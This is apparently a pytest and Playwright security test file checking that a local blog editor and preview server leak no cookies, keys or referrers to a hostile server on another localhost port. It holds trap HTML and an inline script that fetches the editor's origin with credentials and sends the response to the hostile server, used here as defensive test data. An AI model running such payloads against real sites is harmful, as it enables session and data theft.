"""Another server of this computer, which the person visits, gets nothing that it can use.

Browsers send cookies to every port of a host. So a second server on 127.0.0.1 notes all that a real
browser sends to it, and everything it saw is then tried against the editor and the preview.
"""

import contextlib
import http.server
import re
import threading
from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Frame, Page

from tests.web.local_window import Window
from tests.web.test_who_is_let_in import PLACE, project, start

pytestmark = [pytest.mark.browser, pytest.mark.slow]

__all__ = ["project"]  # the fixture of the other module

PATIENCE = 120_000  # milliseconds: on a busy computer all that is waited for comes late
# Links and pictures of a post that tries to tell the other server where it is shown.
TRAP = """
<a class="trap" href="{evil}/link">A link.</a>
<a class="trap" referrerpolicy="unsafe-url" href="{evil}/attribute">A link.</a>
<a class="trap" ReferrerPolicy=unsafe-url rel="opener" href="{evil}/attribute-2">A link.</a>
<a class="trap" ping="{evil}/ping" href="{evil}/pinging">A link.</a>
<meta name="referrer" content="unsafe-url">
<META/NAME=&#114;eferrer content=unsafe-url>
<a class="trap" href="{evil}/meta">A link.</a>
<base href="{evil}/base/">
<img alt="" src="{evil}/picture.png" referrerpolicy="unsafe-url">
<link rel="stylesheet" href="{evil}/style.css" referrerpolicy="unsafe-url">
<iframe src="{evil}/frame" referrerpolicy="unsafe-url"></iframe>
<svg><a class="trap" href="{evil}/svg" referrerpolicy="unsafe-url">
<text y="20">A link.</text></a></svg>
"""
LINKS = {"/link", "/attribute", "/attribute-2", "/pinging", "/meta", "/svg"}
FORM = "<form method=post action='{evil}/post'><button>Go</button></form>"
SVG = """<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100">
<a class="trap" href="{evil}/drawing" referrerpolicy="unsafe-url">
<rect width="100" height="100"/></a></svg>"""


class Evil(http.server.ThreadingHTTPServer):
    """Notes what it is sent, and answers with what could find out more."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.seen: list[tuple[str, str, dict[str, str]]] = []
        self.answers: dict[str, tuple[int, str]] = {}

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self.server_port}"


class _Handler(http.server.BaseHTTPRequestHandler):
    server: Evil

    def do_GET(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.server.seen.append((self.command, self.path, dict(self.headers)))
        status, content = self.server.answers.get(self.path, (200, "<!doctype html>Hello"))
        self.send_response(status)
        if status in (302, 307):
            self.send_header("Location", content)
            content = ""
        self.send_header("Content-Type", "text/html")
        self.send_header("Set-Cookie", "session=evil; Path=/")
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        with contextlib.suppress(OSError):  # the browser has gone on
            self.wfile.write(content.encode())

    do_POST = do_GET  # noqa: N815  (the base class's own form)

    def log_message(self, format: str, *arguments: object) -> None:
        """Stay silent."""


@pytest.fixture
def evil() -> Iterator[Evil]:
    with Evil() as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()


def replay(evil: Evil, windows) -> None:
    """Try everything that the other server saw: as cookies, as keys, as paths and as it came."""
    assert evil.seen
    told = "\n".join(f"{path}\n{headers}" for _, path, headers in evil.seen)
    for window in windows:
        for secret in (window.key, window.path[1:], window.cookie.partition("=")[2]):
            assert secret not in told
        words = sorted(set(re.findall(r"[\w.~%-]{8,}", told)))
        cookies = {headers.get("Cookie", "") for *_, headers in evil.seen}
        cookies |= {f"session={one}" for one in words}
        for cookie in cookies:
            for path in ("/", f"/edit/{PLACE}", "/drafts/zebra/"):
                answer = window.ask(path, cookie=cookie)
                assert answer.status == 403 and "zebra" not in answer.words
        for one in words:
            assert window.ask(f"/?key={one}", cookie="").status == 403
            assert window.ask(f"/{one}/", cookie=f"session={one}").status == 403
        for method, path, headers in evil.seen:
            sent = {**headers, "Host": f"{window.host}:{window.port}"}
            refers = urlsplit(sent.get("Referer", "")).path or "/"
            for at in (path, refers):
                assert (
                    window.ask(at, method, cookie=headers.get("Cookie", ""), **sent).status == 403
                )


@pytest.fixture(scope="module")
def trapped(project, root, tmp_path_factory):
    """The editor and the preview of a project; what is written into its draft is theirs to show."""
    started = [start(one, project, root) for one in ("write", "phone")]
    for program, running in started:
        while "zebra" not in running.window.open(running.page).words:
            assert program.poll() is None
    yield project, *[running for _, running in started]
    for program, _ in started:
        program.kill()
        program.wait()


@pytest.fixture
def page(browser):
    context = browser.new_context()
    context.set_default_timeout(PATIENCE)
    yield context.new_page()
    context.close()


def test_a_server_on_another_port_that_the_person_visits_gets_nothing_it_can_use(
    trapped, evil, page
):
    _, editor, preview = trapped
    for running in (editor, preview):
        page.goto(running.window.address)
        page.wait_for_url(f"{running.window.site}/**")
    near = editor.window.origin
    evil.answers |= {
        "/look": (
            200,
            f"<img src='{near}/'><img src='{near}/?key=x'><iframe src='{near}/'></iframe>"
            f"<form action='{near}/' method=post target=shown><button>Go</button></form>"
            f"<iframe name=shown></iframe><a href='{near}/' target=_blank>Open</a>"
            "<script>fetch(location.origin + '/fetched', {credentials: 'include'});"
            f"for (const at of ['{near}/', '{preview.window.origin}/', '{near}/edit/{PLACE}'])"
            " fetch(at, {credentials: 'include'}).then(a => a.text()).catch(() => 'no')"
            ".then(t => fetch('/told?' + encodeURIComponent(t)));</script>",
        ),
        "/away": (302, "/back"),
        "/to-editor": (302, f"{near}/"),
        "/keeping": (307, f"{near}/delete/{PLACE}"),
    }
    other = page.context.new_page()
    for path in ("/look", "/away", "/", f"/edit/{PLACE}", "/drafts/zebra/", "/keeping"):
        other.goto(evil.address + path)
    other.goto(f"{evil.address}/look")
    other.get_by_role("button").click()
    with page.context.expect_page() as opened:
        other.get_by_role("link").click()
    opened.value.get_by_text("Incomplete address").wait_for()
    other.goto(f"{evil.address}/to-editor")
    other.get_by_text("Incomplete address").wait_for()
    for running in (editor, preview):  # and from a window that shows a draft
        page.goto(running.window.site + running.page)
        page.goto(evil.address)
        page.go_back()
        page.evaluate("to => { location.href = to }", f"{evil.address}/left")
        page.wait_for_url("**/left")
    replay(evil, (editor.window, preview.window))
    # All that came from the browser is what this server set itself.
    assert {headers.get("Cookie", "session=evil") for *_, headers in evil.seen} == {"session=evil"}
    # The person is still let in: no cookie of another server stands in the way.
    page.goto(editor.window.site + editor.page)
    assert "zebra" in page.content()


@pytest.fixture
def baited(trapped, evil, root) -> Iterator[list[tuple[Window, str]]]:
    """Pages that try to tell another server where they are."""
    project, editor, preview = trapped
    post, output = project / "content" / PLACE, project / "output"
    before = post.read_text(encoding="utf-8")
    trap = TRAP.format(evil=evil.address)
    post.write_text(before + trap, encoding="utf-8")
    drawing, page = output / "zebra.svg", output / "zebra.html"
    drawing.write_text(SVG.format(evil=evil.address), encoding="utf-8")
    page.write_text(f"<!doctype html><body>{trap}{FORM.format(evil=evil.address)}", "utf-8")
    program, built = start("serve", project, root)
    yield [
        (preview.window, preview.page),  # in the frame of its window
        (preview.far, preview.page),  # by itself, as on a phone
        (built.window, "/zebra.html"),
        (built.window, "/zebra.svg"),
        (editor.window, f"/look/{PLACE}"),
        (editor.window, f"/sign/{PLACE}"),
    ]
    post.write_text(before, encoding="utf-8")
    drawing.unlink()
    page.unlink()
    program.kill()
    program.wait()


def find_trap(page: Page) -> Frame:
    """Wait until the traps are shown; return the frame in which they are."""
    while True:
        for frame in page.frames:
            if frame.locator("a.trap").count():
                return frame
        page.wait_for_timeout(20)


@pytest.mark.parametrize("has_scripts", [True, False], ids=["scripts", "no scripts"])
def test_no_post_can_tell_another_server_where_it_is_shown(
    baited, trapped, evil, browser, has_scripts
):
    context = browser.new_context(java_script_enabled=has_scripts)
    context.set_default_timeout(PATIENCE)
    for window, path in baited:
        page = context.new_page()
        page.goto(window.address)
        page.wait_for_url(f"{window.site}/**")
        page.goto(window.site + path)
        known = len(evil.seen)
        links = find_trap(page).locator("a.trap")
        for at in range(links.count()):  # each in a window of its own, as no frame is left
            links.nth(at).click(button="middle", force=True)
        wanted = {"/drawing"} if path.endswith(".svg") else LINKS
        while wanted - {path for _, path, _ in evil.seen[known:]}:
            page.wait_for_timeout(20)
        if path == "/zebra.html":
            with page.expect_console_message(lambda one: "form-action" in one.text):
                page.locator("button").click(no_wait_after=True)
        for one in context.pages:
            one.close()
    assert "/post" not in {path for _, path, _ in evil.seen}  # no form is sent there at all
    # What a page of that server itself asks for comes from that page.
    told = [
        (path, name, value)
        for _, path, headers in evil.seen
        for name, value in headers.items()
        if name in ("Referer", "Ping-From") and not value.startswith(evil.address)
    ]
    assert told == []
    replay(evil, [trapped[1].window, *trapped[2].windows])
    context.close()
